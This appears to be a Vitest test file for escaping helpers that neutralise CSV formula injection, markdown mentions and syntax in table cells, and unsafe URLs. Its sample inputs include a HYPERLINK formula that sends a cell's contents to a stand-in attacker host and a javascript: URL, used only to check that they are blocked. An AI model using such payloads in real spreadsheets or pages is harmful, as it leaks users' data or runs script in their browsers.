import { describe, expect, it } from "vitest";
import { csvField, escapeMarkdown, markdownUrl } from "./escape.js";

const ZWSP = "&#8203;";

describe("csvField against formula injection", () => {
  it("makes text a spreadsheet would run as a formula plain text", () => {
    expect(csvField('=HYPERLINK("https://evil.example/?"&A2,"x")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A2,""x"")"`);
    for (const lead of ["=", "+", "-", "@", "\t", "\r", " =", "＝"]) expect(csvField(`${lead}1+1`).replace(/^"/, "")).toMatch(/^'/);
  });

  it("leaves ordinary text and numbers alone", () => {
    expect(csvField("QuantEcon/lecture-python#12")).toBe("QuantEcon/lecture-python#12");
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField(-3)).toBe("-3");
  });
});

describe("markdown escaping in every position", () => {
  it("neutralises mentions after any non-word character", () => {
    for (const before of ["", " ", ".", "+", "-", "_", "(", "\\", "|"]) {
      expect(escapeMarkdown(`${before}@mmcky`)).toContain(`@${ZWSP}mmcky`);
    }
    // An email address pings nobody and keeps its shape.
    expect(escapeMarkdown("a@b.org")).toBe("a@b.org");
  });

  it("does not let text open a heading, list or quote at the start of a cell or line", () => {
    expect(escapeMarkdown("# title")).toBe("\\# title");
    expect(escapeMarkdown("- item")).toBe("\\- item");
    expect(escapeMarkdown("+ item")).toBe("\\+ item");
    expect(escapeMarkdown("1. item")).toBe("1\\. item");
    expect(escapeMarkdown("> quote")).toBe("\\> quote");
  });

  it("keeps a pipe in a URL from splitting a table row or freeing a mention", () => {
    const url = markdownUrl("https://github.com/o/r/pull/1\\|@mmcky please look\\|x");
    expect(url).not.toMatch(/[|\\@ ()]/);
    expect(url.startsWith("https://github.com/o/r/pull/1")).toBe(true);
    expect(markdownUrl("https://x/é")).toBe("https://x/%C3%A9");
    expect(markdownUrl("https://x/\uD800")).toBe("https://x/%EF%BF%BD");
    expect(markdownUrl("javascript:alert(1)")).toBe("");
  });

  it("escapes a backslash before a pipe so the pipe stays escaped", () => {
    const cell = escapeMarkdown("a\\|@mmcky");
    // Every `|` is preceded by an odd number of backslashes: GitHub keeps it in the cell.
    for (const m of cell.matchAll(/(\\*)\|/g)) expect((m[1] ?? "").length % 2).toBe(1);
    expect(cell).toContain(`@${ZWSP}`);
  });
});
